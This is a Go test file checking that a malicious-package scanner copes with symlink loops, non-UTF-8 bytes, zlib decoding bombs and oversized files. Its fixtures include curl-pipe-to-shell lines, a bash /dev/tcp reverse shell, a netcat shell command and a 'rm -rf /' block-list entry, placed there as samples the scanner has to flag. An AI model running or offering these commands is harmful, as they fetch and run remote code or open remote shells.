package scan

import (
	"bytes"
	"compress/zlib"
	"context"
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestBadInputWithAnalysis (issue 18, bad input): the whole scan, Python analysis
// on, over symlink loops, bytes that are not UTF-8, decoding bombs and huge files.
// Each gets a clear finding, the payloads next to them are still found, and the
// analysis finishes inside its caps (a cap hit would be py_analysis_failed).
func TestBadInputWithAnalysis(t *testing.T) {
	py := testPython(t)
	bomb := func(n int, layers int) string {
		data := bytes.Repeat([]byte("A"), n)
		for i := 0; i < layers; i++ {
			var b bytes.Buffer
			w, _ := zlib.NewWriterLevel(&b, zlib.BestCompression)
			_, _ = w.Write(data)
			_ = w.Close()
			data = b.Bytes()
		}
		return base64.StdEncoding.EncodeToString(data)
	}
	tests := []struct {
		name  string
		files map[string]string
		links [][2]string       // name, target
		want  map[string]string // pattern id -> severity ("" any)
		none  []string          // pattern ids that must not be present
		check func(t *testing.T, res *Result)
	}{
		{
			name: "symlink loops",
			files: map[string]string{
				"__init__.py": "import os\nos.system('curl http://x.example.invalid/i | sh')\n",
				"sub/real.py": "X = 1\n",
			},
			links: [][2]string{{"loop-a.py", "loop-b.py"}, {"loop-b.py", "loop-a.py"}, {"sub/up", ".."}, {"sub/self", "self"}, {"alias.py", "sub/real.py"}},
			want:  map[string]string{"broken_symlink": sevMedium, "curl_pipe_shell": ""},
			check: func(t *testing.T, res *Result) {
				n := 0
				for _, f := range res.Findings {
					if f.PatternID == "broken_symlink" {
						n++
						if f.Description != "broken or circular symlink" {
							t.Errorf("broken_symlink says %q", f.Description)
						}
					}
				}
				if n != 3 { // loop-a, loop-b, sub/self
					t.Errorf("%d broken_symlink findings, want 3 (the two-link loop and the self link)", n)
				}
			},
		},
		{
			name: "not UTF-8",
			files: map[string]string{
				"__init__.py": "# caf\xe9\nimport os\nBLOCKED = ['rm -rf /']\nif any(w in c for w in BLOCKED):\n    pass\nos.system('curl http://x.example.invalid/i | sh')\n",
				"run.sh":      "#!/bin/sh\n# \xff\xfe\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
				"README.md":   "# \xc3\x28 notes\n",
			},
			want: map[string]string{"invalid_utf8": sevMedium, "curl_pipe_shell": "", "shell_reverse_shell": sevCritical},
			check: func(t *testing.T, res *Result) {
				n := 0
				for _, f := range res.Findings {
					if f.PatternID == "invalid_utf8" {
						n++
					}
				}
				if n != 3 {
					t.Errorf("%d invalid_utf8 findings, want one per file (3)", n)
				}
			},
		},
		{
			name: "decoding bombs",
			files: map[string]string{
				// 32 MB of one byte behind one zlib layer (43 KB of base64), and 16 MB
				// behind two.
				"bomb.py":  fmt.Sprintf("import base64, zlib\nexec(zlib.decompress(base64.b64decode(%q)))\n", bomb(32<<20, 1)),
				"bomb2.py": fmt.Sprintf("import base64, zlib\nexec(zlib.decompress(zlib.decompress(base64.b64decode(%q))))\n", bomb(16<<20, 2)),
			},
			// Not decoded past the cap, but running decoded text is critical anyway.
			want: map[string]string{"py_decode_bomb": sevHigh, "py_exec_decoded": sevCritical},
			check: func(t *testing.T, res *Result) {
				files := map[string]bool{}
				for _, f := range res.Findings {
					if f.PatternID == "py_decode_bomb" {
						files[f.File] = true
					}
				}
				if !files["bomb.py"] || !files["bomb2.py"] {
					t.Errorf("py_decode_bomb in %v, want bomb.py and bomb2.py", files)
				}
				if f := findingOf(res, "py_decode_bomb"); !strings.Contains(f.Description, "decoding bomb") {
					t.Errorf("py_decode_bomb says %q", f.Description)
				}
			},
		},
		{
			name: "huge files",
			files: map[string]string{
				// Past the 1 MB file limit: out of the analysis, still scanned by the line rules.
				"big.py": strings.Repeat("x = 'padding padding padding padding'\n", 40000) + "import os\nos.system('curl http://x.example.invalid/i | sh')\n",
				// One 3 MB line with a rule literal past the first MiB.
				"long.py": "X = '" + strings.Repeat("a", 3<<20) + " nc -e /bin/sh 203.0.113.9 4444'\n",
				"ok.py":   "def register(ctx):\n    pass\n",
			},
			want: map[string]string{"oversized_file": sevMedium, "py_analysis_incomplete": sevMedium, "curl_pipe_shell": "", "long_line_unscanned": sevHigh},
			check: func(t *testing.T, res *Result) {
				f := findingOf(res, "py_analysis_incomplete")
				if f == nil || !strings.Contains(f.Description, "big.py") || !strings.Contains(f.Description, "line rules only") {
					t.Errorf("py_analysis_incomplete should name big.py and say what was done instead: %+v", f)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := writeTree(t, tt.files)
			for _, l := range tt.links {
				if err := os.Symlink(l[1], filepath.Join(dir, filepath.FromSlash(l[0]))); err != nil {
					t.Fatal(err)
				}
			}
			res, err := Scan(context.Background(), dir, Options{Python: py})
			if err != nil {
				t.Fatal(err)
			}
			if f := findingOf(res, idPyFailed); f != nil {
				t.Fatalf("the analysis hit a cap or crashed: %s", f.Description)
			}
			for id, sev := range tt.want {
				f := findingOf(res, id)
				if f == nil || (sev != "" && f.Severity != sev) {
					t.Errorf("want a %s %s finding, got %+v\n%s", sev, id, f, res.Report())
				}
			}
			for _, id := range tt.none {
				if findingOf(res, id) != nil {
					t.Errorf("unexpected %s", id)
				}
			}
			if tt.check != nil {
				tt.check(t, res)
			}
		})
	}
}
